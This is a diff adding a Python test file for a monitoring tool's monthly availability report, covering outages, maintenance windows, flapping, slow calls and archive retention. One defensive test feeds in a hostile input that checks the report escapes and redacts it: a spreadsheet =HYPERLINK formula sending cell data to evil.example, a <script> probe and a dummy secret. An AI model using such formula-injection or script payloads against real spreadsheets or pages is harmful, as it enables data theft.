@@ -1,0 +1,287 @@
+"""The monthly report's numbers and words from history records as the runs
+write them: what counts as down, what is left out, where an outage begins and
+ends, flapping, the slowest calls; hostile ERP words and secrets; the archive
+that keeps 13 months."""
+
+from __future__ import annotations
+
+import base64
+import csv
+import io
+import json
+import urllib.parse
+from datetime import UTC, datetime, timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from erpwatch.config import ConfigError, Settings, load_settings
+from erpwatch.monthly import month_report, render_month
+from erpwatch.report import History
+
+from .support import clean_environment
+
+CONFIG = """
+[erpwatch]
+monitors = "."
+timezone = "Europe/Brussels"
+
+[processes.orders]
+title = { en = "Web orders", nl = "Webbestellingen", fr = "Commandes web" }
+latency_threshold = 2.0
+
+[processes.payments]
+title = "Payments"
+
+[mail]
+from = "erpwatch <monitoring@agency.example>"
+
+[groups.client]
+language = "fr"
+addresses = ["gerance@librairie.example"]
+
+[groups.erp_partner]
+language = "en"
+timezone = "UTC"
+addresses = ["erp@partner.example"]
+
+[routing]
+orders = ["client", "erp_partner"]
+payments = ["erp_partner"]
+"""
+SECRET = "s3cr3t-Client-Value-42"
+NOV = datetime(2026, 11, 1, tzinfo=UTC)
+
+
+def settings(tmp_path: Path, extra: str = "") -> Settings:
+    path = tmp_path / "erpwatch.toml"
+    path.write_text(CONFIG + extra)
+    env = clean_environment(SMTP_HOST="127.0.0.1", SMTP_USERNAME="erpwatch", SMTP_PASSWORD=SECRET)
+    return load_settings(path, env)
+
+
+def record(at: datetime, **processes: str | dict[str, Any]) -> dict[str, Any]:
+    """A run record: ``orders="failed"`` or ``orders={...monitor fields}``."""
+    monitors = []
+    for process, value in processes.items():
+        fields = {"status": value} if isinstance(value, str) else value
+        monitors.append(
+            {"nodeid": f"monitors/test_{process}.py::t", "process": process, "category": None,
+             "call": None, "ms": [], **fields}
+        )  # fmt: skip
+    return {"run_id": at.isoformat(), "at": at.isoformat(), "url": None, "monitors": monitors,
+            "mails": []}  # fmt: skip
+
+
+def every(start: datetime, count: int, step: timedelta, **processes: str) -> list[dict[str, Any]]:
+    return [record(start + step * i, **processes) for i in range(count)]
+
+
+def report_of(records: list[dict[str, Any]], process: str = "orders", zone: str = "UTC") -> Any:
+    return month_report(
+        records, "2026-11", zone, [process], {"orders": 2000.0}, NOV + timedelta(days=31)
+    )
+
+
+def test_a_check_that_passed_on_the_second_try_is_not_down_and_is_counted_apart() -> None:
+    records = every(NOV, 3, timedelta(hours=1), orders="passed")
+    records.append(record(NOV + timedelta(hours=3), orders={"status": "passed", "flaky": True}))
+    [orders] = report_of(records).processes
+    assert (orders.checks, orders.passed, orders.retried, orders.availability) == (4, 4, 1, 100)
+    assert orders.outages == ()
+
+
+def test_checks_in_planned_maintenance_are_left_out_but_a_one_off_silence_is_not() -> None:
+    records = [
+        record(NOV + timedelta(hours=1), orders="passed"),
+        record(NOV + timedelta(hours=2), orders="failed") | {"silenced": "maintenance"},
+        record(NOV + timedelta(hours=3), orders="passed"),
+        record(NOV + timedelta(hours=4), orders="failed") | {"silenced": "silence"},
+        record(NOV + timedelta(hours=5), orders="passed"),
+    ]
+    [orders] = report_of(records).processes
+    assert (orders.checks, orders.passed, orders.maintenance) == (4, 3, 1)
+    planned, silenced = orders.outages
+    assert planned.maintenance
+    assert planned.downtime == timedelta()
+    assert not silenced.maintenance
+    assert silenced.downtime == timedelta(hours=1)
+    assert orders.downtime == timedelta(hours=1)
+
+
+def test_skipped_and_unfinished_checks_count_neither_way_and_do_not_end_an_outage() -> None:
+    records = [
+        record(NOV + timedelta(hours=1), orders="failed"),
+        record(NOV + timedelta(hours=2), orders="unfinished"),
+        record(NOV + timedelta(hours=3), orders="skipped"),
+        record(NOV + timedelta(hours=4), orders="degraded"),
+    ]
+    [orders] = report_of(records).processes
+    assert (orders.checks, orders.passed) == (2, 1)
+    [outage] = orders.outages
+    assert outage.end == NOV + timedelta(hours=4)
+    assert orders.slower_than_threshold == 1
+
+
+def test_an_outage_across_the_months_edges_counts_only_its_part_in_the_month() -> None:
+    records = [
+        record(NOV - timedelta(hours=2), orders="failed"),  # 30 October, 22:00 UTC
+        record(NOV + timedelta(hours=1), orders="passed"),
+        record(NOV + timedelta(days=29, hours=22), orders="failed"),  # 30 November, 22:00 UTC
+        record(NOV + timedelta(days=30, hours=3), orders="passed"),  # 1 December, 03:00 UTC
+    ]
+    [orders] = report_of(records).processes
+    first, last = orders.outages
+    assert first.start == NOV - timedelta(hours=2)
+    assert first.downtime == timedelta(hours=1)
+    assert last.downtime == timedelta(hours=2)
+    assert last.duration(NOV) == timedelta(hours=5)
+    # In Brussels, November ends an hour earlier: the last outage has one hour in it.
+    [local] = report_of(records, zone="Europe/Brussels").processes
+    assert [o.downtime for o in local.outages] == [timedelta(hours=2), timedelta(hours=1)]
+
+
+def test_an_outage_still_open_when_the_report_is_made_runs_to_that_moment() -> None:
+    records = [record(NOV + timedelta(days=3), orders="failed")]
+    made = NOV + timedelta(days=3, hours=6)
+    report = month_report(records, "2026-11", "UTC", ["orders"], {}, made)
+    [outage] = report.processes[0].outages
+    assert outage.end is None
+    assert outage.downtime == timedelta(hours=6)
+
+
+def test_the_first_mail_about_an_outage_gives_the_time_to_detect_and_to_recover() -> None:
+    records = every(NOV + timedelta(days=5), 3, timedelta(minutes=15), orders="failed")
+    records[1]["mails"] = [
+        {"group": "client", "status": "sent", "subject": "slow", "about": [["orders", "alert", "slow"]]},
+        {"group": "client", "status": "sent", "subject": "down", "about": [["orders", "alert", "failing"]]},
+    ]  # fmt: skip
+    records.append(record(NOV + timedelta(days=5, hours=2), orders="passed"))
+    [outage] = report_of(records).processes[0].outages
+    assert outage.detected_after == timedelta(minutes=15)
+    assert outage.recovered_after == timedelta(hours=1, minutes=45)
+
+
+def test_flapping_is_shown_as_an_unstable_spell_with_its_last_runs(tmp_path: Path) -> None:
+    statuses = ["failed", "passed", "failed", "passed", "passed", "passed"]
+    records = [
+        record(NOV + timedelta(days=2, minutes=15 * i), orders=s) for i, s in enumerate(statuses)
+    ]
+    for r, pattern in zip(records[2:4], ("FPF", "FPFP"), strict=True):
+        r["unstable"] = {"orders": pattern}
+    [orders] = report_of(records).processes
+    [spell] = orders.unstable
+    assert (spell.start, spell.pattern) == (NOV + timedelta(days=2, minutes=30), "FPFP")
+    assert spell.end == NOV + timedelta(days=2, minutes=60)
+    rendered = render_month(
+        report_of(records), settings(tmp_path).mail.groups["client"], settings(tmp_path)
+    )
+    assert "Instable" in rendered.text
+    assert "✗✓✗✓" in rendered.html
+
+
+def test_the_slowest_calls_are_named_against_the_agreed_threshold(tmp_path: Path) -> None:
+    records = [
+        record(NOV + timedelta(hours=h), orders={"status": "passed", "slowest": [call, ms]})
+        for h, (call, ms) in enumerate(
+            [("POST /salesOrders", 900), ("POST /salesOrders", 2600), ("GET /items", 300)]
+        )
+    ]
+    report = report_of(records)
+    assert [(s.call, s.ms) for s in report.processes[0].slowest] == [
+        ("POST /salesOrders", 2600), ("GET /items", 300),
+    ]  # fmt: skip
+    rendered = render_month(
+        report, settings(tmp_path).mail.groups["erp_partner"], settings(tmp_path)
+    )
+    assert "Slowest calls (agreed: at most 2.00 s)" in rendered.text
+    assert "POST /salesOrders: 2.60 s, Sun 1 Nov 01:00 (slower than agreed)" in rendered.text
+
+
+def test_each_group_hears_only_of_its_processes_and_a_month_without_runs_says_so(
+    tmp_path: Path,
+) -> None:
+    from erpwatch.monthly._command import Target, report_target
+
+    config = settings(tmp_path)
+    history = tmp_path / "reports" / "history.jsonl"
+    history.parent.mkdir()
+    lines = report_target(Target("", config, ()), "2026-11", NOV + timedelta(days=31), False)
+    assert lines[-1].startswith("written to ")
+    folder = tmp_path / "reports" / "monthly" / "2026-11"
+    client = (folder / "client.txt").read_text()
+    assert "Aucune exécution n’a été enregistrée ce mois-ci" in client
+    assert "Commandes web" in client
+    assert "Payments" not in client
+    assert "Payments" in (folder / "erp_partner.txt").read_text()
+
+
+HOSTILE = (
+    '=HYPERLINK("http://evil.example/?"&A1) <script>alert(1)</script> '
+    f"key={SECRET} b64={base64.b64encode(SECRET.encode()).decode()} "
+    f"url={urllib.parse.quote(SECRET + '/x', safe='')} json={json.dumps(SECRET)}"
+)
+
+
+def test_the_erp_words_are_escaped_defused_and_never_carry_a_secret(tmp_path: Path) -> None:
+    config = settings(tmp_path)
+    records = [
+        record(NOV + timedelta(hours=1), orders={
+            "status": "failed", "failed_call": f"POST /x?token={SECRET}", "answer": "400",
+            "erp": HOSTILE + " " + "x" * 2000,
+        }),
+        record(NOV + timedelta(hours=2), orders="passed"),
+    ]  # fmt: skip
+    records[0]["mails"] = [{"group": "client", "status": "sent", "subject": f"leak {SECRET}"}]
+    for key in ("client", "erp_partner"):
+        rendered = render_month(report_of(records), config.mail.groups[key], config)
+        for text in (rendered.subject, rendered.text, rendered.html, rendered.csv):
+            assert SECRET not in text
+            assert base64.b64encode(SECRET.encode()).decode() not in text
+            assert urllib.parse.quote(SECRET, safe="") not in text
+        assert "<script>" not in rendered.html
+        assert "&lt;script&gt;" in rendered.html
+        assert max(len(line) for line in rendered.text.splitlines()) < 500  # quoted, clipped
+        separator = "," if key == "erp_partner" else ";"
+        [row] = list(
+            csv.DictReader(io.StringIO(rendered.csv.lstrip("\ufeff")), delimiter=separator)
+        )
+        assert row["erp_said"].startswith("'=HYPERLINK")  # text in a spreadsheet, not a formula
+
+
+def test_the_archive_keeps_thirteen_whole_months_and_a_damaged_line_is_skipped(
+    tmp_path: Path,
+) -> None:
+    history = History(tmp_path / "history.jsonl")
+    start = datetime(2025, 9, 15, tzinfo=UTC)
+    for month in range(15):  # September 2025 … November 2026
+        at = datetime(start.year + (start.month - 1 + month) // 12,
+                      (start.month - 1 + month) % 12 + 1, 15, tzinfo=UTC)  # fmt: skip
+        history.append(record(at, orders="passed"))
+    months = sorted(p.name for p in tmp_path.glob("history-*.jsonl"))
+    assert months[0] == "history-2025-10.jsonl"
+    assert months[-1] == "history-2026-11.jsonl"
+    assert len(months) == 14  # 13 whole months back, and this one
+    # The 90-day file the dashboard reads is bounded on its own.
+    assert len((tmp_path / "history.jsonl").read_text().splitlines()) == 3
+    with (tmp_path / "history-2026-11.jsonl").open("a") as stream:
+        stream.write('{"run_id": "cut sho')  # a run killed mid-write
+    history.append(record(datetime(2026, 11, 20, tzinfo=UTC), orders="failed"))
+    reader = History(tmp_path / "history.jsonl")
+    assert [r["monitors"][0]["status"] for r in reader.months(["2026-11"])] == ["passed", "failed"]
+    assert "1 damaged line(s)" in reader.warnings[0]
+
+
+def test_a_monthly_report_group_that_does_not_exist_is_one_line(tmp_path: Path) -> None:
+    path = tmp_path / "erpwatch.toml"
+    path.write_text(CONFIG.replace('timezone = "Europe/Brussels"', 'monthly_report = ["owner"]'))
+    with pytest.raises(ConfigError) as caught:
+        load_settings(path, clean_environment())
+    assert caught.value.key == "erpwatch.monthly_report"
+    assert "no group 'owner'; groups: client, erp_partner" in str(caught.value)
+    path = tmp_path / "erpwatch.toml"
+    path.write_text(CONFIG.replace('timezone = "UTC"', 'timezone = "Mars/Olympus"'))
+    with pytest.raises(ConfigError) as caught:
+        load_settings(path, clean_environment())
+    assert caught.value.key == "groups.erp_partner.timezone"
